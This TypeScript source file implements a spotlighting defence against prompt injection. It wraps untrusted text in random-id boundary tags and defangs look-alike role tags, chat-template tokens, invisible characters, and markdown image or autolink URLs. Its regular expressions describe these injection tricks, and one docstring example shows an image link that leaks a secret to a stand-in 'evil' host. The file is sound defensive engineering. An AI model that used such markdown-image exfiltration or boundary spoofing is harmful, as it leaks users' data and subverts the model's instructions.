/**
 * Spotlighting (Hines et al., arXiv 2403.14720; injection-filtering.md §4): untrusted text is
 * enclosed in `<untrusted-data id="R">…</untrusted-data id="R">` with a fresh random R per response,
 * so stored text cannot predict (and so cannot close) the boundary. Inside, look-alike boundary
 * tags, chat-template tokens, markdown images/autolinks and invisible characters are neutralised.
 */
import { randomBytes } from 'node:crypto';

/** Zero-width, bidi-control, word-joiner, BOM and Unicode tag characters (hide or reorder text). */
const INVISIBLE =
  /[\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDC7F]/g;

/**
 * `<`-like characters (ASCII, fullwidth, small form, angle brackets, single guillemet) followed by
 * an optional `/` and a tag name that imitates our boundary or a role/turn marker.
 */
const LOOKALIKE_TAG =
  /[<\uFF1C\uFE64\u2329\u27E8\u3008\u2039](\s{0,8}[/\uFF0F]?\s{0,8})(untrusted[\s_-]*data|system|assistant|user|im_start|im_end|\|)/giu;

/** Chat-template specials such as `<|im_start|>`, `<|endoftext|>` and Llama's `<<SYS>>`. */
const TEMPLATE_TOKEN = /<\|([^|<>\n]{0,40})\|>/g;
const LLAMA_SYS = /<<(\/?)SYS>>/gi;

/** Markdown image `![alt](url)` or `![alt][ref]`: a rendering client fetches it (exfiltration). */
// `(?=(X))\1` is an atomic group: no backtracking into the alt text when no `]` follows.
// The alt text excludes `[` too, so a run of `![![![…` is scanned once, not once per opener.
const MD_IMAGE = /!\s{0,8}\[(?=([^[\]\n]{0,1000}))\1\]\s{0,8}([([])/g;

/** HTML `<img` and autolinks `<https://…>`: also fetched or linkified by renderers. */
const HTML_IMG = /<\s*img\b/gi;
const AUTOLINK = /<(?=((?:https?|ftp|data|javascript):[^<>\s]{0,4000}))\1>/gi;
const HTTPS = /\bhttps:\/\//gi;
const HTTP = /\bhttp:\/\//gi;
const FTP = /\bftp:\/\//gi;

/**
 * Neutralises text for use inside a boundary. Pure and idempotent on its own output.
 * @example defang('![x](https://evil/?q=secret)') // '[image: x](hxxps://evil/?q=secret)'
 */
export function defang(text: string): string {
  // String replacements, not callbacks: hostile text can hold ~10^6 matches per megabyte.
  let out = text.replace(INVISIBLE, '');
  out = out.replace(TEMPLATE_TOKEN, '[|$1|]').replace(LLAMA_SYS, '[$1SYS]');
  out = out.replace(LOOKALIKE_TAG, '[$1$2');
  out = out.replace(MD_IMAGE, '[image: $1]$2');
  out = out.replace(HTML_IMG, '[img');
  out = out.replace(AUTOLINK, '$1');
  // Break clickable/fetchable schemes everywhere inside untrusted text (hxxp is the usual defang).
  out = out.replace(HTTPS, 'hxxps://').replace(HTTP, 'hxxp://').replace(FTP, 'fxp://');
  return out;
}

/** A fresh boundary id: 96 random bits, unguessable by stored content. */
export function newBoundary(): string {
  return randomBytes(12).toString('hex');
}

/**
 * Encloses one untrusted string. The notice line states once that the content is data.
 * @example spotlight('hello', 'ab12', 'untrusted-content: data')
 */
export function spotlight(text: string, boundary: string, notice?: string): string {
  const head = notice ? `[${notice}; boundary id ${boundary}]\n` : '';
  return `${head}<untrusted-data id="${boundary}">\n${defang(text)}\n</untrusted-data id="${boundary}">`;
}
